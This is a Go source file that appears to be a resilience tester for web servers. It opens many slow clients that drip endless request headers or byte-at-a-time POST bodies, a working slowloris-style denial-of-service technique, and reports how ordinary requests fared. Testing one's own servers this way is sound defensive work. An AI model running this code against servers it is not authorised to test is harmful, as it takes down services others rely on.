package main

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

type config struct {
	address  string
	path     string
	postPath string
	slow     int
	idle     int
	drip     time.Duration
	pause    time.Duration
	timeout  time.Duration
}

// A siege is the slow and the idle clients together.
type siege struct {
	config
	cut  atomic.Int64 // slow connections that the server ended
	lost atomic.Int64 // idle connections that the server ended
}

// run lays siege to the server until ctx ends and reports how ordinary clients
// fared meanwhile. It fails when the idle connections cannot be opened.
func run(ctx context.Context, c config) (report, error) {
	s := &siege{config: c}
	idle, err := s.openIdle()
	defer func() {
		for _, conn := range idle {
			conn.Close()
		}
	}()
	if err != nil {
		return report{}, err
	}
	var group sync.WaitGroup
	for i := range c.slow {
		group.Go(func() { s.drawOut(ctx, i) })
	}
	keeping := ordinary{config: c}
	fresh := ordinary{config: c, fresh: true}
	group.Go(func() { keeping.ask(ctx) })
	group.Go(func() { fresh.ask(ctx) })
	group.Wait()

	for _, conn := range idle {
		if ended(conn) {
			s.lost.Add(1)
		}
	}
	r := report{slow: c.slow, idle: c.idle, cut: int(s.cut.Load()), lost: int(s.lost.Load())}
	r.add(keeping.outcome)
	r.add(fresh.outcome)
	return r, nil
}

// openIdle opens the idle connections and has a request answered on each.
func (s *siege) openIdle() ([]net.Conn, error) {
	var idle []net.Conn
	for range s.idle {
		conn, err := net.DialTimeout("tcp", s.address, s.timeout)
		if err != nil {
			return idle, fmt.Errorf("idle connection %d: %w", len(idle)+1, err)
		}
		idle = append(idle, conn)
		conn.SetDeadline(time.Now().Add(s.timeout))
		fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: %s\r\n\r\n", s.path, s.address)
		resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
		if err != nil {
			return idle, fmt.Errorf("idle connection %d: %w", len(idle), err)
		}
		io.Copy(io.Discard, resp.Body)
		if resp.StatusCode != http.StatusOK {
			return idle, fmt.Errorf("idle connection %d: want status 200, got %d", len(idle), resp.StatusCode)
		}
	}
	return idle, nil
}

// ended reports whether the other side has closed a connection that should be silent.
func ended(conn net.Conn) bool {
	conn.SetReadDeadline(time.Now().Add(200 * time.Microsecond))
	_, err := conn.Read(make([]byte, 1))
	timeout, ok := err.(net.Error)
	return !ok || !timeout.Timeout()
}

// drawOut plays slow client number i until ctx ends, coming back when cut off.
func (s *siege) drawOut(ctx context.Context, i int) {
	for ctx.Err() == nil {
		conn, err := net.DialTimeout("tcp", s.address, s.timeout)
		if err != nil {
			pause(ctx, s.drip)
			continue
		}
		release := context.AfterFunc(ctx, func() { conn.Close() })
		if i%2 == 0 {
			s.dripHead(ctx, conn)
		} else {
			s.dripBody(ctx, conn)
		}
		if ctx.Err() == nil {
			s.cut.Add(1)
		}
		release()
		conn.Close()
		// Back again, but not as a flood of connections: that would be another attack.
		pause(ctx, s.drip)
	}
}

// dripHead sends the head of a request that never ends.
func (s *siege) dripHead(ctx context.Context, conn net.Conn) {
	start := fmt.Sprintf("GET %s HTTP/1.1\r\nHost: %s\r\n", s.path, s.address)
	s.dripOut(ctx, conn, start+strings.Repeat("X-Slow: a\r\n", 1000))
}

// dripBody sends a head at once and then a body a byte at a time.
func (s *siege) dripBody(ctx context.Context, conn net.Conn) {
	const size = 100_000
	fmt.Fprintf(conn, "POST %s HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n\r\n", s.postPath, s.address, size)
	s.dripOut(ctx, conn, strings.Repeat("a", size))
}

// dripOut returns when the server ends the connection, when everything is sent,
// or when ctx ends.
func (s *siege) dripOut(ctx context.Context, conn net.Conn, text string) {
	closed := make(chan struct{})
	go func() {
		io.Copy(io.Discard, conn)
		close(closed)
	}()
	tick := time.NewTicker(s.drip)
	defer tick.Stop()
	for i := range len(text) {
		if _, err := io.WriteString(conn, text[i:i+1]); err != nil {
			return
		}
		select {
		case <-ctx.Done():
			return
		case <-closed:
			return
		case <-tick.C:
		}
	}
}

// pause waits, but not beyond ctx.
func pause(ctx context.Context, d time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
}
